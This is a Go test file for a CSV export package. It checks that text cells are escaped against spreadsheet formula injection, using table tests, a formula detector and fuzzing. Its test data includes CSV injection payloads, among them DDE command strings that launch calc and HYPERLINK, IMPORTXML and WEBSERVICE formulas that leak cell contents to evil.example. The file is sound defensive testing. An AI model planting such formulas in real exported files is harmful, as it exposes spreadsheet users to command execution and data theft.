package tablefile_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"waymark/shared/adapter/tablefile"
)

var textAndNumber = []tablefile.Column{{Name: "name", Kind: tablefile.Text}, {Name: "value", Kind: tablefile.Number}}

// write gives the file without its byte order mark.
func write(t *testing.T, columns []tablefile.Column, rows [][]string) string {
	t.Helper()
	var file bytes.Buffer
	if _, err := tablefile.WriteCSV(&file, columns, slices.Values(rows)); err != nil {
		t.Fatalf("WriteCSV(%q) = %v", rows, err)
	}
	body, found := strings.CutPrefix(file.String(), "\ufeff")
	if !found || !utf8.ValidString(body) {
		t.Fatalf("WriteCSV(%q) is not UTF-8 with a byte order mark: %q", rows, file.String())
	}
	return body
}

func TestGolden(t *testing.T) {
	t.Parallel()
	columns := []tablefile.Column{
		{Name: "metric", Kind: tablefile.Text},
		{Name: "start", Kind: tablefile.Time},
		{Name: "end", Kind: tablefile.Time},
		{Name: "member", Kind: tablefile.Text},
		{Name: "value", Kind: tablefile.Number},
	}
	rows := [][]string{
		{"revenue", "2026-10-25", "2026-10-26", "paid search", "12.50"},
		{"refunds", "2026-10-25T00:00:00+01:00", "2026-10-26T00:00:00Z", "", "-3.00"},
		{"conversion_rate", "2026-10-25", "2026-10-26", "São João, \"Loja\"; 3º", "1e-05"},
		{"aov", "2026-10-25", "2026-10-26", "two\nlines", ""},
		{"touchpoints", "2026-10-25", "2026-10-26", "=HYPERLINK(\"http://evil.example\";\"win\")", "0"},
		{"touchpoints", "2026-10-25", "2026-10-26", "＋４９ ３０ 👩🏽 עברית", "184467440737095516"},
		{"touchpoints", "2026-10-25", "2026-10-26", " padded ", "7"},
	}
	var file bytes.Buffer
	if n, err := tablefile.WriteCSV(&file, columns, slices.Values(rows)); err != nil || n != len(rows) {
		t.Fatalf("WriteCSV = %d, %v, want %d rows", n, err, len(rows))
	}
	const golden = "testdata/export.golden.csv"
	if os.Getenv("UPDATE_GOLDEN") != "" {
		if err := os.WriteFile(golden, file.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(file.Bytes(), want) {
		t.Errorf("WriteCSV wrote\n%s\nwant\n%s", file.Bytes(), want)
	}
}

func TestTextCells(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, text, want string }{
		{"plain", "paid search", `paid search`},
		{"empty", "", ``},
		{"comma", "a,b", `"a,b"`},
		{"quote", `say "hi"`, `"say ""hi"""`},
		{"line end", "a\r\nb", "\"a\r\nb\""},
		{"semicolon", "a;b", `"a;b"`},
		{"space at the end", "a ", `"a "`},
		{"formula", "=1+1", `'=1+1`},
		{"formula with quotes", `=cmd|"/C calc"!A0`, `"'=cmd|""/C calc""!A0"`},
		{"plus", "+44 20", `'+44 20`},
		{"minus", "-5", `'-5`},
		{"at", "@SUM(A1)", `'@SUM(A1)`},
		{"full-width equals", "＝1", `'＝1`},
		{"full-width plus", "＋1", `'＋1`},
		{"full-width minus", "－1", `'－1`},
		{"full-width at", "＠A1", `'＠A1`},
		{"tab", "\ta", "\"'\ta\""},
		{"carriage return", "\ra", "\"'\ra\""},
		{"line feed", "\na", "\"'\na\""},
		{"NUL", "\x00a", "'\x00a"},
		{"space before a formula", " =1", `' =1`},
		{"no-break space before", "\u00a0=1", "'\u00a0=1"},
		{"byte order mark before", "\ufeff=1", "'\ufeff=1"},
		{"zero-width space before", "\u200b=1", "'\u200b=1"},
		{"apostrophe before", "'=1", `''=1`},
		{"apostrophe of a word", "'tis", `'tis`},
		{"apostrophes only", "''", `''`},
		{"spaces only", "  ", `"  "`},
		{"sign inside", "a=1", `a=1`},
		{"not UTF-8", "a\xffb", "a\ufffdb"},
		{"right to left", "שלום", "שלום"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			got := write(t, textAndNumber, [][]string{{test.text, "1"}})
			if want := "name,value\r\n" + test.want + ",1\r\n"; got != want {
				t.Errorf("WriteCSV(%q) = %q, want %q", test.text, got, want)
			}
		})
	}
}

func TestShapes(t *testing.T) {
	t.Parallel()
	one := []tablefile.Column{{Name: "=name", Kind: tablefile.Text}}
	tests := []struct {
		name    string
		columns []tablefile.Column
		rows    [][]string
		want    string
	}{
		{"no rows", textAndNumber, nil, "name,value\r\n"},
		{"a header is text too", one, nil, "'=name\r\n"},
		{"one empty cell is no empty line", one, [][]string{{""}, {"a"}}, "'=name\r\n\"\"\r\na\r\n"},
		{"our negative numbers stay", textAndNumber, [][]string{{"", "-12.50"}, {"", "-1e-05"}}, "name,value\r\n,-12.50\r\n,-1e-05\r\n"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if got := write(t, test.columns, test.rows); got != test.want {
				t.Errorf("WriteCSV(%q) = %q, want %q", test.rows, got, test.want)
			}
		})
	}
}

func TestRefusedCells(t *testing.T) {
	t.Parallel()
	tests := []struct {
		kind tablefile.Kind
		text string
		want string
	}{
		{tablefile.Number, "=1+1", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "-2+3", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "+1", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "-", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "NaN", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "1,5", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "1 ", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "\n1", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "-1\t", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Number, "0x10", "write row 1: column c: the cell is not a decimal number"},
		{tablefile.Time, "25.10.2026", "write row 1: column c: the cell is neither a date nor an instant with its offset"},
		{tablefile.Time, "2026-10-25 09:00", "write row 1: column c: the cell is neither a date nor an instant with its offset"},
		{tablefile.Time, "=NOW()", "write row 1: column c: the cell is neither a date nor an instant with its offset"},
		{"colour", "red", `write row 1: column c: there is no kind "colour" of column`},
	}
	for _, test := range tests {
		columns := []tablefile.Column{{Name: "c", Kind: test.kind}}
		n, err := tablefile.WriteCSV(&bytes.Buffer{}, columns, slices.Values([][]string{{test.text}}))
		if err == nil || err.Error() != test.want || n > 0 {
			t.Errorf("WriteCSV(%s %q) = %d, %v, want %q", test.kind, test.text, n, err, test.want)
		}
	}
	_, err := tablefile.WriteCSV(&bytes.Buffer{}, textAndNumber, slices.Values([][]string{{"a", "1"}, {"a"}}))
	if want := "write row 2: 1 cells for 2 columns"; err == nil || err.Error() != want {
		t.Errorf("WriteCSV of a short row = %v, want %q", err, want)
	}
}

var errDiskFull = errors.New("disk full")

// fullDisk takes some bytes and then no more.
type fullDisk struct{ room int }

func (d *fullDisk) Write(p []byte) (int, error) {
	if len(p) > d.room {
		return 0, errDiskFull
	}
	d.room -= len(p)
	return len(p), nil
}

func TestWriteErrorsAreReported(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ room, rows int }{{0, 1}, {0, 2000}, {5000, 2000}} {
		rows := slices.Repeat([][]string{{"a name", "1"}}, test.rows)
		n, err := tablefile.WriteCSV(&fullDisk{test.room}, textAndNumber, slices.Values(rows))
		if !errors.Is(err, errDiskFull) || n > 0 {
			t.Errorf("WriteCSV of %d rows with room for %d bytes = %d, %v, want %v", test.rows, test.room, n, err, errDiskFull)
		}
	}
}

// isFormula is a formula detector of its own: it takes the first character that one can see.
func isFormula(cell string) bool {
	if cell != "" && (cell[0] == 0 || cell[0] == '\t' || cell[0] == '\r' || cell[0] == '\n') {
		return true
	}
	for _, r := range cell {
		isFiller := r == 0x34f || r == 0x115f || r == 0x1160 || r == 0x3164 || r == 0xffa0 || (r >= 0xfe00 && r <= 0xfe0f)
		if !unicode.IsGraphic(r) || unicode.IsSpace(r) || isFiller {
			continue
		}
		switch r {
		case '=', '+', '-', '@', 0xff1d, 0xff0b, 0xff0d, 0xff20:
			return true
		}
		return false
	}
	return false
}

// injections are payloads from OWASP's page on CSV injection and variations of them.
var injections = []string{
	"=1+1", "=1+1\";=1+1", "=1+1'\" ;,=1+1", `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example?leak="&A1&B1,"click")`, `=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, `=WEBSERVICE("http://evil.example")`,
	`=DDE("cmd";"/C calc";"x")`, `-2+3+cmd|' /C calc'!D2`, "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x00=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1",
	"\u200b\u200e=1+1", "\ufe0f=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "\"=1+1", "\",=1+1", "\"\r\n=1+1", "\x1f=1+1", "\u0085=1+1", "\u2028=1+1",
	"\u034f=1+1", "\u3164=1+1", "\u05f9=1+1", "\ue000=1+1",
}

func corpus(t testing.TB) []string {
	t.Helper()
	data, err := os.ReadFile("testdata/naughty_strings.json")
	if err != nil {
		t.Fatal(err)
	}
	var naughty []string
	if err := json.Unmarshal(data, &naughty); err != nil {
		t.Fatal(err)
	}
	if len(naughty) != 515 {
		t.Fatalf("%d naughty strings, want 515", len(naughty))
	}
	return append(naughty, injections...)
}

func TestInjectionCorpus(t *testing.T) {
	t.Parallel()
	texts := corpus(t)
	dangerous := 0
	rows := make([][]string, len(texts))
	for i, text := range texts {
		rows[i] = []string{text, strconv.Itoa(-i - 1)}
		if isFormula(text) {
			dangerous++
		}
	}
	if dangerous < 27+20 {
		t.Errorf("the detector finds %d formulas in the corpus, so it finds too few", dangerous)
	}
	checkRoundTrip(t, rows)
}

// checkRoundTrip writes rows and reads them with another implementation: no text is a formula, every text comes back, numbers are
// unchanged. encoding/csv reads CRLF inside a cell as LF, so texts are compared after that.
func checkRoundTrip(t *testing.T, rows [][]string) {
	t.Helper()
	reader := csv.NewReader(strings.NewReader(write(t, textAndNumber, rows)))
	records, err := reader.ReadAll()
	if err != nil || len(records) != len(rows)+1 {
		t.Fatalf("ReadAll gives %d records, %v, want %d", len(records), err, len(rows)+1)
	}
	for i, record := range records[1:] {
		text, number := rows[i][0], rows[i][1]
		if isFormula(record[0]) {
			t.Errorf("%q is written as the formula %q", text, record[0])
		}
		want := strings.ReplaceAll(strings.ToValidUTF8(text, "\ufffd"), "\r\n", "\n")
		if got := tablefile.Original(record[0]); got != want || record[1] != number {
			t.Errorf("%q, %s comes back as %q, %s", text, number, got, record[1])
		}
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, text := range corpus(f) {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		checkRoundTrip(t, [][]string{{text, "-1"}, {"after", "2"}})
	})
}

func BenchmarkWriteCSV(b *testing.B) {
	rows := slices.Repeat([][]string{{"paid search", "12.50"}}, 1000)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := tablefile.WriteCSV(&bytes.Buffer{}, textAndNumber, slices.Values(rows)); err != nil {
			b.Fatal(err)
		}
	}
}
